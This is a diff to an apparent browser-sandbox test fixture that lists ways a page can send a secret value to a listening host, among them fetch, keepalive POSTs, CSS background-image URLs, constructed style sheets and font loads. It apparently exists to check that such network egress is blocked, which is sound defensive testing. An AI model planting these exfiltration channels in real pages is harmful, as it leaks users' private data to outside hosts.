@@ -1,5 +1,6 @@
 // Ways in which a page can ask something of a network, each by itself. `to` is host and port of one who listens; `answer`
-// stands for what must not leave. Run in the window's own page by page.rs.
+// stands for what must not leave, and is another each time: what was asked for once may come out of a cache. Run in the
+// window's own page by page.rs.
 const attempts = {
   "fetch": (to, answer) => fetch(`http://${to}/${answer}`, { mode: "no-cors" }),
   "fetch kept alive": (to, answer) => fetch(`http://${to}/`, { method: "POST", body: answer, mode: "no-cors", keepalive: true }),
@@ -24,7 +25,7 @@ const attempts = {
   "style set by script": (to, answer) => void (document.body.style.backgroundImage = `url(http://${to}/${answer}.png)`),
   "constructed style sheet": (to, answer) => {
     const sheet = new CSSStyleSheet();
-    sheet.replaceSync(`body { background: url(http://${to}/${answer}.png) }`);
+    sheet.replaceSync(`html { background: url(http://${to}/${answer}.png) }`);
     document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
   },
   "font": (to, answer) => new FontFace("x", `url(http://${to}/${answer}.woff2)`).load(),
